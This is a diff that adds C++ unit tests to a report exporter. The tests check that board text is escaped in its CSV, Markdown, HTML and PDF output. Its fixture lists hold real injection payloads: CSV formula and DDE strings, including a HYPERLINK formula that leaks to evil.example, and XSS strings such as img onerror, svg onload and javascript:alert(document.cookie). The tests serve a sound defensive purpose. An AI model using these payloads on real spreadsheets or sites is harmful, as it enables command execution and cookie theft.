@@ -16,6 +16,8 @@
 #include "month_log.h"
 #include "test_util.h"
 
+#include <cmark.h>
+
 using namespace cc;
 using namespace cc::summary;
 using cc::test::readFile;
@@ -60,6 +62,75 @@ MonthlySummary emptySummary() {
 
 const MonthlySummary& october() {
     static const MonthlySummary s = octoberSummary();
+    return s;
+}
+
+// ---- boards that attack the reader of the summary ----------------------------------------------
+
+/// Texts a spreadsheet would run as formulas (OWASP's list: = + - @, tab, CR).
+const std::vector<std::string> kFormulas{"=HYPERLINK(\"http://evil.example/?leak\",\"Click\")", "=cmd|' /C calc'!A0",
+                                         "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\t=1+1", "\r=1+1"};
+
+/// Markdown that would become a link, an image, HTML, a heading, a list, a quote or code.
+const std::vector<std::string> kMarkdownAttacks{
+    "[click me](javascript:alert(1))", "![pixel](http://evil.example/p.png)", "<http://evil.example/auto>",
+    "<img src=x onerror=alert(1)>", "see www.evil.example and https://evil.example/x", "mail me@evil.example",
+    "# not a heading", "- not a list", "1. not a list", "> not a quote", "**not bold** _not em_ `not code`",
+    "[ref]: http://evil.example/ref"};
+
+/// Text no document can carry: noncharacters, bytes that are not UTF-8, controls.
+const std::vector<std::string> kUnrenderable{
+    "Before \xEF\xB7\x90 after (U+FDD0)", "Before \xEF\xBF\xBF after (U+FFFF)", "Before \xF4\x8F\xBF\xBF after (U+10FFFF)",
+    "Before \xFF\xFE after (not UTF-8)", "Before \x1B[2J after (ESC)", std::string("Before ") + '\0' + " after (NUL)",
+    "Before \xC2\x9B after (C1)", "Before \xED\xA0\x80 after (surrogate)"};
+
+/// Byte sequences of kUnrenderable that must not reach a document.
+const std::vector<std::string> kUnrenderableBytes{"\xEF\xB7\x90", "\xEF\xBF\xBF", "\xF4\x8F\xBF\xBF", "\xFF",
+                                                  "\x1B",         std::string(1, '\0'), "\xC2\x9B", "\xED\xA0\x80"};
+
+/// Replaces `from` with `to` in every piece of note text the summary carries.
+void replaceInSummary(MonthlySummary& s, const std::string& from, const std::string& to) {
+    auto fix = [&](std::string& str) {
+        for (std::size_t at = str.find(from); at != std::string::npos; at = str.find(from, at + to.size())) str.replace(at, from.size(), to);
+    };
+    auto note = [&](CitedNote& n) {
+        for (std::string* f : {&n.title, &n.text, &n.author, &n.segment, &n.provenanceFile, &n.provenanceLocation, &n.provenanceExcerpt})
+            fix(*f);
+    };
+    fix(s.boardTitle);
+    for (auto& v : s.strongest)
+        for (auto& n : v) note(n);
+    for (auto& q : s.questions) note(q.a), note(q.b), fix(q.label);
+    for (auto* v : {&s.changes.added, &s.changes.archived, &s.changes.deleted, &s.appendix})
+        for (auto& n : *v) note(n);
+    for (auto& m : s.changes.moved) note(m.note);
+    for (auto* v : {&s.changes.linksAdded, &s.changes.linksRemoved})
+        for (auto& l : *v) fix(l.fromTitle), fix(l.toTitle), fix(l.label);
+    for (auto& p : s.picture) fix(p.title);
+}
+
+/// October 2026 with one wall note per text, the same text also as author, segment and provenance.
+/// The model refuses text that is not UTF-8, so such text goes into the finished summary instead,
+/// as a writer could still be handed it.
+MonthlySummary summaryOf(const std::vector<std::string>& texts, const std::string& boardTitle = "Retail 零售") {
+    Log log(at(2026, 8, 1), boardTitle);
+    std::vector<std::pair<std::string, std::string>> later;
+    for (std::size_t i = 0; i < texts.size(); ++i) {
+        std::string t = texts[i];
+        if (!isValidUtf8(t)) {
+            later.emplace_back("StandIn" + std::to_string(i) + "X", t);
+            t = later.back().first;
+        }
+        const std::string id = log.add(t, "survey", 1 + static_cast<int>(i % 4), at(2026, 10, 2), "2026-10-01", 1, {t, t, t});
+        log.update(id, at(2026, 10, 3), [&](Note& n) {
+            n.author = t;
+            n.segment = t;
+        });
+    }
+    log.add("Ordinary note alpha", "complaint", 1, at(2026, 10, 4), "2026-10-04", 2);
+    log.add("Ordinary note omega", "focus_group", 4, at(2026, 10, 4), "2026-10-04", 3);
+    MonthlySummary s = log.summary(Month{2026, 10});
+    for (const auto& [standIn, text] : later) replaceInSummary(s, standIn, text);
     return s;
 }
 
@@ -407,6 +478,127 @@ TEST(SummaryJson, ParsesBackWithTheModelsFigures) {
     ed.Parse(e.c_str());
     ASSERT_FALSE(ed.HasParseError());
     EXPECT_TRUE(ed["empty"].GetBool());
+}
+
+// ---- Text that attacks the reader -----------------------------------------------------------------
+
+TEST(SummaryCsv, FormulasFromBoardTextAreDefusedEverywhere) {
+    TempDir dir;
+    auto s = summaryOf(kFormulas);
+    // Votes are never negative on a board; a negative number the program writes is still a number.
+    for (auto& n : s.appendix)
+        if (n.text == "Ordinary note omega") n.votes = -3;
+    const std::string c = readFile(write(s, dir, "formulas.csv"));
+    bool crlf = false;
+    const auto rows = parseCsv(c.substr(3), crlf);
+    ASSERT_EQ(rows.size(), s.appendix.size() + 1);
+    std::set<std::string> defused;
+    for (std::size_t i = 1; i < rows.size(); ++i) {
+        ASSERT_EQ(rows[i].size(), 16u);
+        for (std::size_t col = 0; col < rows[i].size(); ++col) {
+            const std::string& cell = rows[i][col];
+            if (col == 9) continue;  // the votes: a number
+            // No cell a spreadsheet would run: every formula text comes back behind a '.
+            ASSERT_FALSE(!cell.empty() && std::string("=+-@\t\r").find(cell[0]) != std::string::npos) << col << ": " << cell;
+            if (!cell.empty() && cell[0] == '\'') defused.insert(cell.substr(1));
+        }
+        const std::string& text = rows[i][3];
+        if (text.size() > 1 && text[0] == '\'') {
+            // Title, text, author, segment and the three provenance columns alike.
+            for (std::size_t col : {7u, 8u, 13u, 14u, 15u}) EXPECT_EQ(rows[i][col], text) << col;
+        }
+    }
+    for (const auto& f : kFormulas) EXPECT_TRUE(defused.count(f)) << f;
+    // In the bytes: defused cells are quoted; the votes, even negative ones, stay bare numbers.
+    EXPECT_TRUE(contains(c, ",\"'+1+1\","));
+    EXPECT_TRUE(contains(c, ",\"'-2+3\","));
+    EXPECT_TRUE(contains(c, ",-3,"));
+    EXPECT_TRUE(contains(c, ",2,"));
+    EXPECT_TRUE(contains(c, "Ordinary note alpha"));
+}
+
+namespace {
+
+/// The Markdown rendered as a CommonMark renderer does, raw HTML let through (as many wikis do).
+std::string renderMarkdown(const std::string& md) {
+    char* html = cmark_markdown_to_html(md.data(), md.size(), CMARK_OPT_UNSAFE);
+    std::string out = html;
+    std::free(html);
+    return out;
+}
+
+std::size_t count(const std::string& hay, const std::string& needle) {
+    std::size_t n = 0;
+    for (auto at = hay.find(needle); at != std::string::npos; at = hay.find(needle, at + 1)) ++n;
+    return n;
+}
+
+}  // namespace
+
+TEST(SummaryMarkdown, BoardTextNeverBecomesALinkImageOrHtml) {
+    TempDir dir;
+    const auto s = summaryOf(kMarkdownAttacks, "Board [x](javascript:alert(1)) <b>bold</b>");
+    const std::string m = readFile(write(s, dir, "attacks.md"));
+    const std::string h = renderMarkdown(m);
+    EXPECT_FALSE(contains(h, "<a ")) << h;
+    EXPECT_FALSE(contains(h, "<img")) << h;
+    EXPECT_FALSE(contains(h, "<b>"));
+    EXPECT_FALSE(contains(h, "<blockquote"));
+    EXPECT_FALSE(contains(h, "<code"));
+    EXPECT_EQ(count(h, "<h1"), 1u) << "only the summary's own title";
+    // Each attack reads as the text that was typed.
+    for (const char* shown : {"[click me](javascript:alert(1))", "![pixel](http://evil.example/p.png)", "&lt;http://evil.example/auto&gt;",
+                              "&lt;img src=x onerror=alert(1)&gt;", "# not a heading", "**not bold** _not em_ `not code`",
+                              "[ref]: http://evil.example/ref", "mail me@evil.example", "1. not a list", "- not a list"})
+        EXPECT_TRUE(contains(h, shown)) << shown;
+    // What GitHub links without any brackets is broken up in the Markdown itself.
+    EXPECT_FALSE(contains(m, "http://"));
+    EXPECT_FALSE(contains(m, "https://"));
+    EXPECT_FALSE(contains(m, "www."));
+    for (std::size_t at = m.find('@'); at != std::string::npos; at = m.find('@', at + 1)) EXPECT_EQ(m[at - 1], '\\');
+}
+
+TEST(SummaryHtml, BoardTextMakesNoLinkAndNoMarkup) {
+    TempDir dir;
+    std::vector<std::string> texts = kMarkdownAttacks;
+    texts.push_back("<a href=\"javascript:alert(1)\">x</a>");
+    texts.push_back("\"><svg onload=alert(1)>");
+    texts.push_back("javascript:alert(document.cookie)");
+    const std::string h = readFile(write(summaryOf(texts), dir, "attacks.html"));
+    EXPECT_EQ(checkWellFormed(h), "");
+    EXPECT_FALSE(contains(h, "<a "));
+    EXPECT_FALSE(contains(h, "<img"));
+    // javascript:, links and event handlers are only ever text, never inside a tag.
+    EXPECT_TRUE(contains(h, "javascript:alert(document.cookie)"));
+    for (std::size_t lt = h.find('<'); lt != std::string::npos; lt = h.find('<', lt + 1)) {
+        const std::string tag = h.substr(lt, h.find('>', lt) - lt);
+        EXPECT_FALSE(contains(tag, "javascript")) << tag;
+        EXPECT_FALSE(contains(tag, "href")) << tag;
+        EXPECT_FALSE(contains(tag, "onerror")) << tag;
+        EXPECT_FALSE(contains(tag, "onload")) << tag;
+    }
+}
+
+TEST(SummaryPdf, OneNoteWithANoncharacterOrBadBytesDoesNotStopTheReport) {
+    TempDir dir;
+    const auto s = summaryOf(kUnrenderable, "Retail \xEF\xB7\x90 board");
+    std::string path;
+    ASSERT_NO_THROW(path = write(s, dir, "odd.pdf"));
+    const std::string t = pdfText(path);
+    for (const char* shown : {"Ordinary note alpha", "Ordinary note omega", "after (U+FDD0)", "after (not UTF-8)", "Retail"})
+        EXPECT_TRUE(contains(t, shown)) << shown;
+}
+
+TEST(SummaryText, EveryWriterReplacesWhatNoDocumentCanCarry) {
+    TempDir dir;
+    const auto s = summaryOf(kUnrenderable, "Retail \xEF\xB7\x90 board");
+    for (const char* name : {"odd.html", "odd.md", "odd.csv", "odd.json"}) {
+        const std::string out = readFile(write(s, dir, name));
+        EXPECT_TRUE(isValidUtf8(out)) << name;
+        for (const auto& bad : kUnrenderableBytes) EXPECT_FALSE(contains(out, bad)) << name << ": " << testing::PrintToString(bad);
+        EXPECT_TRUE(contains(out, "Before \uFFFD after")) << name;
+        EXPECT_TRUE(contains(out, "Ordinary note alpha")) << name;
+    }
 }
 
 // ---- Speed ---------------------------------------------------------------------------------------
